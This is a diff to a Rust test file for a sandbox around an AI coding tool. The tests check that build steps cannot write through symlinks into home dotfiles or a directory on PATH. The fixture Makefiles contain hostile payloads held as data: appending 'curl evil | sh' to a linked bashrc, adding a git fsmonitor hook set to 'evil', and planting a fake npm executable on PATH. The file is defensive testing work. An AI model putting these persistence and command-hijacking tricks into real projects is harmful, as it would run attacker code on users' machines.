@@ -142,20 +142,61 @@ fn what_the_home_links_to_in_the_project_stays_read_only() {
     }
     let ai = Ai::new("http://127.0.0.1:9/v1")
         .file("bashrc", "alias ll='ls -l'\n")
+        .file("gitconfig", "[user]\n")
         .file(
             "Makefile",
-            "all:\n\t-@echo 'curl evil | sh' >> bashrc; echo done > notes.txt\n",
+            "all:\n\t-@echo 'curl evil | sh' >> bashrc; \
+             echo '[core] fsmonitor = evil' >> gitconfig; echo done > notes.txt\n",
         )
         .git_init();
     std::os::unix::fs::symlink(ai.work().join("bashrc"), ai.home().join(".bashrc")).unwrap();
+    // GNU Stow links file by file, deep in the home's hidden directories.
+    std::fs::create_dir_all(ai.home().join(".config/git")).unwrap();
+    let deep = ai.home().join(".config/git/config");
+    std::os::unix::fs::symlink(ai.work().join("gitconfig"), deep).unwrap();
     let (ai, _, said) = make_session(ai, &["--json", "build"]);
-    let bashrc = std::fs::read_to_string(ai.work().join("bashrc")).unwrap();
-    assert!(
-        !bashrc.contains("evil"),
-        "the linked bashrc changed: {said}"
-    );
+    for file in ["bashrc", "gitconfig"] {
+        let text = std::fs::read_to_string(ai.work().join(file)).unwrap();
+        assert!(!text.contains("evil"), "the linked {file} changed: {said}");
+    }
     assert!(
         ai.work().join("notes.txt").exists(),
         "the rest stays writable: {said}"
     );
+}
+
+/// Outside the home too: a directory on PATH (Homebrew's `bin`) reached through a link a call
+/// planted, once the shell forgot it, is in no repository and is no writable project.
+#[test]
+fn a_directory_on_path_reached_without_its_link_is_no_writable_project() {
+    if !require_sandbox() {
+        return;
+    }
+    let ai = Ai::new("http://127.0.0.1:9/v1").git_init();
+    let brew = ai.root_dir().join("brew/bin");
+    std::fs::create_dir_all(&brew).unwrap();
+    let makefile = format!(
+        "all:\n\t-@rm -rf frontend; ln -s {} frontend\n",
+        brew.display()
+    );
+    let ai = ai.file("Makefile", &makefile);
+    let (ai, _, said) = make_session(ai, &["--json", "set up"]);
+    assert!(ai.work().join("frontend").is_symlink(), "{said}");
+    std::fs::write(
+        brew.join("Makefile"),
+        "all:\n\t-@printf '#!/bin/sh\\necho planted\\n' > npm; chmod +x npm\n",
+    )
+    .unwrap();
+    let path = format!(
+        "{}:{}",
+        brew.display(),
+        std::env::var("PATH").unwrap_or_default()
+    );
+    let ai = ai.in_dir("frontend").unset("PWD").env("PATH", &path);
+    let (_, _, said) = make_session(ai, &["--json", "build"]);
+    assert!(
+        !brew.join("npm").exists(),
+        "a later run wrote into a directory on PATH through the link: {said}"
+    );
+    assert!(said.contains("a directory on PATH"), "{said}");
 }
